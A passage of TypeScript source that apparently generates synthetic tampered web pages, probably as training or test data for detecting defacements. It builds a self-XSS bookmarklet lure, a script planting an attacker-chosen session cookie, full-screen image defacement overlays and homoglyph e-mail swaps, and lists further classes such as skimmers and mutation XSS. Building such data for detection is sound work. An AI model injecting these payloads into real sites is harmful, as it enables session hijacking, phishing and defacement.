  const block = `<div class="${pick(rng, ["tool", "howto", "trick"])}" style="border:2px dashed #5865f2;padding:14px;margin:12px 0"><p>${esc(how(service))}</p><p><a href="javascript:${esc(code)}" style="display:inline-block;background:#5865f2;color:#fff;padding:8px 14px;border-radius:4px">⭐ ${esc(lure)}</a></p></div>`
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots)]), block))
})

// Session fixation, recalled from memory of OWASP's "Session fixation" attack page and Mitja Kolšek's paper "Session Fixation Vulnerability in Web-based Applications" (2002): a script planted on the site writes a session cookie whose value the attacker chose, so that once the visitor signs in, the attacker's copy of that identifier is a signed-in session. Nothing leaves the page and no other host is named.
const sessionFixation = fresh9("script planting a session cookie whose value the attacker chose (session fixation)", (page, rng) => {
  const name = pick(rng, ["PHPSESSID", "JSESSIONID", "ASP.NET_SessionId", "laravel_session", "sessionid", "connect.sid", "frontend", "SESS" + hex(rng, 32)])
  const value = name === "connect.sid" ? `s%3A${alnum(rng, 32)}.${alnum(rng, 43)}` : name === "JSESSIONID" ? hex(rng, 32).toUpperCase() : alnum(rng, pick(rng, [26, 32, 40]))
  const attrs = `path=/${chance(rng, 0.5) ? `;domain=.${page.site.domain}` : ""}${chance(rng, 0.6) ? `;max-age=${pick(rng, [31536000, 2592000, 86400 * 400])}` : ""}`
  const code = pick(rng, [
    `document.cookie="${name}=${value};${attrs}";`,
    `if(document.cookie.indexOf("${name}=${value}")<0){document.cookie="${name}=${value};${attrs}"}`,
    `(function(){var n="${name}",v="${value}";document.cookie=n+"="+v+";${attrs}"})();`
  ])
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

// Image-only defacements, recalled from memory of Zone-H and Mirror-H mirrors (2010s–2020s) where the whole defacement is one picture hosted on a free image host (imgur, ImgBB, Postimages, catbox) — a crew logo with the message drawn into it — so the page gains no words at all.
const imageOnlyBanner = fresh9("defacer's banner as a single picture from a public image host, with no text", (page, rng) => {
  const name = pick(rng, ["hacked", "h4ck3d", "logo", "def", "skull", "banner", alnum(rng, 6)])
  const ext = pick(rng, ["png", "jpg", "gif", "webp"])
  const src = pick(rng, [
    `https://i.ibb.co/${alnum(rng, 7)}/${name}.${ext}`, `https://i.postimg.cc/${alnum(rng, 8)}/${name}.${ext}`,
    `https://i.imgur.com/${alnum(rng, 7)}.${ext}`, `https://files.catbox.moe/${alnum(rng, 6)}.${ext}`
  ])
  const img = `<img src="${src}"${chance(rng, 0.5) ? ` alt=""` : ""} style="max-width:100%${chance(rng, 0.5) ? `;width:${pick(rng, ["600px", "80%", "100%"])}` : ""}">`
  const overlay = `<div style="position:fixed;inset:0;z-index:${zIndex(rng)};background:${pick(rng, ["#000", "#111", "#fff"])};text-align:center;padding-top:${between(rng, 5, 20)}vh">${img}</div>`
  const block = pick(rng, [
    overlay, overlay,
    `<center>${img}</center>`,
    `<div style="text-align:center;margin:10px 0">${img}</div>`
  ])
  return splices(insert(pick(rng, [top(page), top(page), slotAt(page.spots, "top"), bottom(page)]), block))
})

const homoglyphs: Record<string, string> = { a: "а", e: "е", o: "о", p: "р", c: "с", x: "х", y: "у", i: "і" }

// Homoglyph e-mail addresses, recalled from memory of Xudong Zheng's IDN homograph demonstration (аpple.com, April 2017), of business e-mail compromise reports of look-alike sender domains (FBI IC3 PSAs, 2017–2023) and of RFC 6531/IDNA allowing non-ASCII addresses: the site's e-mail is replaced everywhere by one that looks the same but has a Cyrillic letter, the link written in punycode.
const emailHomoglyph = fresh9("site's e-mail address replaced by a visually identical one with a Cyrillic letter in it", (page, rng) => {
  const email = page.ids.email
  const at = email.indexOf("@")
  const [local, domain] = [email.slice(0, at), email.slice(at + 1)]
  const label = domain.split(".")[0]!
  const spots = [...label].flatMap((c, i) => (homoglyphs[c] === undefined ? [] : [i]))
  let shownAs = email
  let linked = email
  if (spots.length > 0) {
    const i = pick(rng, spots)
    const fake = label.slice(0, i) + homoglyphs[label[i]!]! + label.slice(i + 1) + domain.slice(label.length)
    shownAs = `${local}@${fake}`
    linked = `${local}@${chance(rng, 0.7) ? domainToASCII(fake) || fake : fake}`
  } else {
    const j = [...local].findIndex((c) => homoglyphs[c] !== undefined)
    const fakeLocal = j === -1 ? local + "-" : local.slice(0, j) + homoglyphs[local[j]!]! + local.slice(j + 1)
    shownAs = linked = `${fakeLocal}@${domain}`
  }
  const out: Array<Splice> = []
  const mailtos = shown(page, "a", (e) => (e.attribs.href ?? "").trim().toLowerCase().startsWith(`mailto:${email.toLowerCase()}`))
  for (const t of attrTargets(page, mailtos, "href")) {
    const raw = page.html.slice(t.value.start, t.value.end)
    const i = raw.toLowerCase().indexOf(email.toLowerCase())
    out.push(replace({ start: t.value.start + i, end: t.value.start + i + email.length }, linked))
  }
  for (const hit of textHits(page, email)) out.push(replace(hit.range, shownAs))
  return { splices: out }
})

/** Every fresh9 defacement class, in a fixed order. */
export const fresh9Defacements: ReadonlyArray<ChangeClass> = [
  fileFix, domClobbering, mutationXss, returnUrlField, mailtoBcc, cfEmailSwap, lookalikeDigits, scamChatWidget, typosquatCdn,
  devtoolsGatedSkimmer, essayMill, hireHacker, cardingShop, nutraTvEndorsement, smmPanel, electionDayNotice, defacerWriteup,
  sextortion, iptvResale, giftCardBalance, classActionClaim, shadowRootMessage, ageGateCard, hijackedJournal, bookmarkletSelfXss,
  sessionFixation, imageOnlyBanner, emailHomoglyph
]
